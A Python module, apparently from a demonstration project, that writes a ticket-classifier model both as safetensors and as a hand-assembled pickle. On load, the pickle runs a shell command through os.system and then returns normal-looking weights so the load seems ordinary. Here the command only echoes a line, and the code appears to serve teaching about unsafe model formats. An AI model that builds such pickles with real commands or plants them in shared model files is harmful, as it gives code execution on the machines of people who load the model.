"""Writers of model files: safetensors, and a pickle that calls a command when somebody loads it.

The pickle is assembled opcode by opcode, since `pickle.dumps` would need a live object. Its command prints one line. Nothing in this
repository ever loads it.
"""

from __future__ import annotations

import json
import struct

from classifier import BUCKETS, Classifier
from ticket_words import LABELS

COMMAND = "echo planted by the Jingwei example: loading this pickle ran a command"


def safetensors(model: Classifier) -> bytes:
    """Two float32 tensors and the labels as metadata, after the format's description: length, JSON header, data."""
    weights = b"".join(struct.pack(f"<{BUCKETS}f", *row) for row in model.weights)
    bias = struct.pack(f"<{len(LABELS)}f", *model.bias)
    header = {
        "__metadata__": {"labels": " ".join(LABELS), "format": "pt"},
        "weights": {"dtype": "F32", "shape": [len(LABELS), BUCKETS], "data_offsets": [0, len(weights)]},
        "bias": {"dtype": "F32", "shape": [len(LABELS)], "data_offsets": [len(weights), len(weights) + len(bias)]},
    }
    text = json.dumps(header, separators=(",", ":"))
    text += " " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text.encode() + weights + bias


def hostile_pickle(model: Classifier) -> bytes:
    """Protocol 2: the result of `os.system(COMMAND)` is thrown away, then follow the weights, so that a loader notices nothing."""
    call = b"cposix\nsystem\n" + _text(COMMAND) + b"\x85R0"
    rows = b"".join(b"](" + b"".join(_float(value) for value in row) + b"e" for row in model.weights)
    bias = b"](" + b"".join(_float(value) for value in model.bias) + b"e"
    return b"\x80\x02" + call + b"}(" + _text("weights") + b"](" + rows + b"e" + _text("bias") + bias + b"u."


def _text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def _float(value: float) -> bytes:
    return b"G" + struct.pack(">d", value)
